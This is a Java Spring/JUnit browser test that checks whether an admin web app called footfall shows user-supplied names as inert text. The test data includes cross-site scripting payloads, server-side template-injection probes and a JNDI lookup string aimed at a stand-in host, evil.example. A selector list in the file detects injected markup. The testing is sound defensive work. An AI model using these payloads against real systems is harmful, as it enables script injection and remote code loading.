package dev.footfall;

import static dev.footfall.testkit.TestActivity.anActivity;
import static org.assertj.core.api.Assertions.assertThat;

import dev.footfall.activity.ActivityTypes;
import dev.footfall.platform.Caller.Role;
import dev.footfall.testkit.FootfallTest;
import dev.footfall.testkit.Tab;
import dev.footfall.testkit.Tab.Look;
import dev.footfall.testkit.TestActivities;
import dev.footfall.testkit.TestBrowser;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * Whatever people and platforms call things, it is shown as text: nothing of it runs, loads, or is taken for a
 * template.
 */
@FootfallTest
class InjectionBrowserTests {

    /** Short enough for a type's label. */
    private static final List<String> HOSTILE = List.of(
            "<img src=x onerror=alert(1)>",
            "\"><script>alert(1)</script>",
            "' onmouseover='alert(1)' x='",
            "<i hx-get=/x hx-trigger=load>",
            "javascript:alert(1)",
            "${7*7} #{login.title} *{x}",
            "__${T(java.lang.Math).PI}__::x",
            "{{7*7}} <%= 7*7 %> [[${7*7}]]",
            "${jndi:ldap://evil.example/x}",
            "{0} {entity",
            "]]></script><svg onload=alert(1)>");

    private static final String TRACES = "img[src='x'], [onerror], [onload], [onmouseover], [hx-get='/x'],"
            + " svg:not(.icon):not(.bar), a[href^='javascript'], script:not([src]):not([type='application/json'])";

    @LocalServerPort
    int port;

    @Autowired
    TestActivities rows;

    @Autowired
    ActivityTypes types;

    @Autowired
    JdbcClient database;

    @Autowired
    Clock clock;

    @AfterEach
    void removeNames() {
        database.sql("delete from api_key where name = any (:names)")
                .param("names", HOSTILE.toArray(String[]::new))
                .update();
        database.sql("""
                                delete from activity where activity_type in (select id from activity_type
                                    where name like 'hostile%')""").update();
        database.sql("delete from activity_type where name like 'hostile%'").update();
        types.refresh();
    }

    @Test
    void showsNamesAsText() {
        var admin = TestBrowser.signedInAs(port, Role.ADMIN);
        var name = "reader-" + UUID.randomUUID();
        var person = TestBrowser.makeAccount(port, name, Role.USER);
        var apps = new ArrayList<UUID>();
        for (int i = 0; i < HOSTILE.size(); i++) {
            var text = HOSTILE.get(i);
            var app = UUID.randomUUID();
            apps.add(app);
            expect(
                    302,
                    admin,
                    "/admin/settings/types/new",
                    Map.of("name", "hostile_" + i, "label", text, "sentence", text + " {entity}"));
            expect(302, admin, "/admin/settings/apps/new", Map.of("id", app.toString(), "name", text));
            expect(200, admin, "/admin/settings/keys/new", Map.of("name", text, "scopes", "jobs:run"));
            rows.insert(anActivity()
                    .by(person)
                    .of("hostile_" + i)
                    .on(app)
                    .at(clock.instant().minus(Duration.ofMinutes(i + 1)))
                    .with(text, text));
        }
        var key = database.sql("select id from api_key where name = :name order by created_at desc limit 1")
                .param("name", HOSTILE.getFirst())
                .query(UUID.class)
                .single();

        try (var tab = Tab.with(admin.session(), port, Look.DEFAULT)) {
            shows(tab, "/admin/activities?userId=" + person, HOSTILE);
            tab.find("tr[data-row] a").first().click();
            tab.find("#panel .card").waitFor();
            assertThat(tab.find(TRACES).count()).isZero();
            shows(tab, "/admin/users/" + person, HOSTILE);
            shows(tab, "/admin/settings/types", HOSTILE);
            shows(tab, "/admin/settings/apps", HOSTILE);
            shows(tab, "/admin/settings/keys", HOSTILE);
            shows(tab, "/admin/settings/keys/" + key, HOSTILE.subList(0, 1));
            tab.find("a:has-text('Revoke')").click();
            tab.find("#dialog form").waitFor();
            assertThat(tab.find("#dialog h1").innerText()).contains(HOSTILE.getFirst());
            assertThat(tab.find(TRACES).count()).isZero();
            for (int i = 0; i < HOSTILE.size(); i++) {
                tab.open("/admin/settings/types/hostile_" + i + "/edit");
                assertThat(tab.find("#f-label").inputValue()).isEqualTo(HOSTILE.get(i));
                assertThat(tab.find("#f-sentence").inputValue()).isEqualTo(HOSTILE.get(i) + " {entity}");
                assertThat(tab.find(TRACES).count()).isZero();
            }
            tab.open("/admin/settings/apps/" + apps.getFirst() + "/edit");
            assertThat(tab.find("#f-name").inputValue()).isEqualTo(HOSTILE.getFirst());
        }
        var own = new TestBrowser(port);
        own.signIn(name, TestBrowser.PASSWORD);
        try (var tab = Tab.with(own.session(), port, Look.DEFAULT)) {
            shows(tab, "/me/activity", HOSTILE);
        }
    }

    private static void shows(Tab tab, String path, List<String> texts) {
        tab.page().onDialog(dialog -> {
            throw new AssertionError("a script ran: " + dialog.message());
        });
        assertThat(tab.open(path).status()).isEqualTo(200);
        assertThat(tab.find("body").innerText()).as(path).contains(texts).doesNotContain("3.14159");
        assertThat(tab.find(TRACES).count()).as(path).isZero();
    }

    private static void expect(int status, TestBrowser browser, String path, Map<String, String> form) {
        var answer = browser.post(path, form);
        assertThat(answer.statusCode()).as(path + " " + form + answer.body()).isEqualTo(status);
    }
}
